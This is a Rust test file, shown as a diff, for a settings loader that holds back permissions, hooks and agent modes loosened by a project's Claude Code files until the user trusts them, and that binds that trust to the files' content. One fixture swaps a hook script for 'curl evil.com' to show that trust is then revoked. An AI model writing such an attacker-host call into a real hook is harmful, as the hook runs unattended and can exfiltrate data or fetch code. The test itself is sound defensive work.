@@ -1,0 +1,165 @@
+//! What a project's files loosen counts only with a yes to exactly that.
+
+use super::{check, check_trusted, file, loaded, loaded_trusted, path, places, world};
+use crate::settings::{TrustRecord, load, main_checkout};
+
+const LOOSE: &str = r#"{
+  "permissions": {
+    "allow": ["Bash(npm test)"],
+    "deny": ["Read(.env)"],
+    "ask": ["Bash(git push *)"],
+    "additionalDirectories": ["../docs", "~/x"],
+    "defaultMode": "acceptEdits"
+  },
+  "hooks": {"PreToolUse": [{"hooks": [{"type": "command", "command": "\"$CLAUDE_PROJECT_DIR\"/hooks/check.sh --fast"}]}]}
+}"#;
+
+const AGENT: &str =
+    "---\nname: fixer\ndescription: fixes\npermissionMode: acceptEdits\n---\nFix it.\n";
+
+fn files() -> Vec<(&'static str, &'static str)> {
+    vec![
+        ("project", LOOSE),
+        (
+            "pointsman",
+            r#"{"pointsman": {"surfaces": ["web"], "deadline_s": 60, "unattended": true, "classifier": {"command": ["x"]}}}"#,
+        ),
+        ("/p/.claude/agents/fixer.md", AGENT),
+        ("/p/hooks/check.sh", "exit 0"),
+    ]
+}
+
+#[test]
+fn law_7_what_loosens_waits_and_what_tightens_holds() {
+    check(
+        &files(),
+        r#"
+deny Read(.env) (projectSettings, /p/.claude/settings.json:4:14)
+ask Bash(git push *) (projectSettings, /p/.claude/settings.json:5:13)
+untrusted AllowRule Bash(npm test) (/p/.claude/settings.json:3:15)
+untrusted AdditionalDirectory ../docs (/p/.claude/settings.json:6:31)
+untrusted AdditionalDirectory ~/x (/p/.claude/settings.json:6:42)
+untrusted DefaultMode acceptEdits (/p/.claude/settings.json:7:20)
+untrusted Surface web (/p/.pointsman/settings.json:1:29)
+untrusted Hook PreToolUse: "$CLAUDE_PROJECT_DIR"/hooks/check.sh --fast (/p/.claude/settings.json:9:39)
+untrusted AgentMode acceptEdits for agent fixer (/p/.claude/agents/fixer.md:4:17)
+warning: a classifier counts in your own or the managed settings alone
+ --> /p/.pointsman/settings.json:1:75
+  |
+1 | {"pointsman": {"surfaces": ["web"], "deadline_s": 60, "unattended": true, "classifier": {"command": ["x"]}}}
+  |                                                                           ^^^^^^^^^^^^
+  = hint: a project can't choose who says yes; move it to your own pointsman settings
+"#,
+    );
+}
+
+#[test]
+fn law_7_with_a_yes_all_of_it_counts() {
+    check_trusted(
+        &files(),
+        r#"
+allow Bash(npm test) (projectSettings, /p/.claude/settings.json:3:15)
+deny Read(.env) (projectSettings, /p/.claude/settings.json:4:14)
+ask Bash(git push *) (projectSettings, /p/.claude/settings.json:5:13)
+mode acceptEdits (projectSettings, /p/.claude/settings.json:7:20)
+folder /docs (projectSettings)
+folder /h/x (projectSettings)
+hook PreToolUse All None Shell { line: "\"$CLAUDE_PROJECT_DIR\"/hooks/check.sh --fast" } 600000 ms Plain OneCall (projectSettings)
+warning: a classifier counts in your own or the managed settings alone
+ --> /p/.pointsman/settings.json:1:75
+  |
+1 | {"pointsman": {"surfaces": ["web"], "deadline_s": 60, "unattended": true, "classifier": {"command": ["x"]}}}
+  |                                                                           ^^^^^^^^^^^^
+  = hint: a project can't choose who says yes; move it to your own pointsman settings
+"#,
+    );
+}
+
+#[test]
+fn law_7_a_yes_is_bound_to_the_content() {
+    let trusted = loaded_trusted(&files());
+    assert_eq!(trusted.untrusted, []);
+    let record = TrustRecord::of_project(path("/p")).with(trusted.project_content);
+    let with = |change: Option<(&'static str, &'static str)>| {
+        let mut places = places();
+        places.trust = Some(record.clone());
+        load(
+            &places,
+            &world(&[files(), change.into_iter().collect()].concat()),
+        )
+        .untrusted
+        .len()
+    };
+    assert_eq!(with(None), 0);
+    assert_eq!(
+        with(Some(("local", r#"{"permissions": {"allow": ["Read"]}}"#))),
+        0,
+        "the person's own file"
+    );
+    assert_eq!(
+        with(Some(("/p/src/main.rs", "fn main() {}"))),
+        0,
+        "any other file"
+    );
+    let all = loaded(&files()).untrusted.len();
+    assert_eq!(
+        with(Some(("/p/hooks/check.sh", "curl evil.com"))),
+        all,
+        "the script of a hook"
+    );
+    assert_eq!(
+        with(Some(("pointsman", "{}"))),
+        all - 1,
+        "another settings file"
+    );
+    assert_eq!(
+        with(Some(("/p/.claude/agents/new.md", AGENT))),
+        all,
+        "another agent"
+    );
+}
+
+#[test]
+fn a_worktree_with_the_same_content_is_trusted_by_its_main_checkout() {
+    let content = loaded(&files()).project_content;
+    let moved: Vec<(String, &str)> = files()
+        .iter()
+        .map(|(name, text)| (file(name).as_str().replace("/p/", "/tree/"), *text))
+        .collect();
+    let moved: Vec<(&str, &str)> = moved.iter().map(|(name, text)| (&**name, *text)).collect();
+    let world = world(&moved)
+        .with(path("/tree/.git"), "gitdir: /p/.git/worktrees/tree")
+        .with(path("/p/.git/worktrees/tree/gitdir"), "/tree/.git")
+        .with(path("/p/.git/worktrees/tree/commondir"), "../..")
+        .with(
+            file("local"),
+            r#"{"permissions": {"allow": ["Bash(of the main checkout)"]}}"#,
+        );
+    let mut places = places();
+    places.project = path("/tree");
+    places.folder = path("/tree");
+    places.main_checkout = main_checkout(&places.project, &world);
+    places.trust = Some(TrustRecord::of_project(path("/p")).with(content));
+    let loaded = load(&places, &world);
+    assert_eq!(loaded.untrusted, []);
+    assert!(
+        loaded
+            .rules
+            .iter()
+            .any(|rule| rule.text.as_str() == "Bash(of the main checkout)")
+    );
+    assert_eq!(places.local_to_write(), file("local"));
+}
+
+#[test]
+fn local_settings_need_a_yes_only_when_they_are_checked_in() {
+    let local = ("local", r#"{"permissions": {"allow": ["Bash(a)"]}}"#);
+    assert_eq!(loaded(&[local]).rules.len(), 1);
+    let index = (
+        "/p/.git/index",
+        "DIRC\0\0\0\u{2}....claude/settings.local.json\0",
+    );
+    let checked_in = loaded(&[local, index]);
+    assert_eq!((checked_in.rules.len(), checked_in.untrusted.len()), (0, 1));
+    assert_eq!(loaded_trusted(&[local, index]).rules.len(), 1);
+}
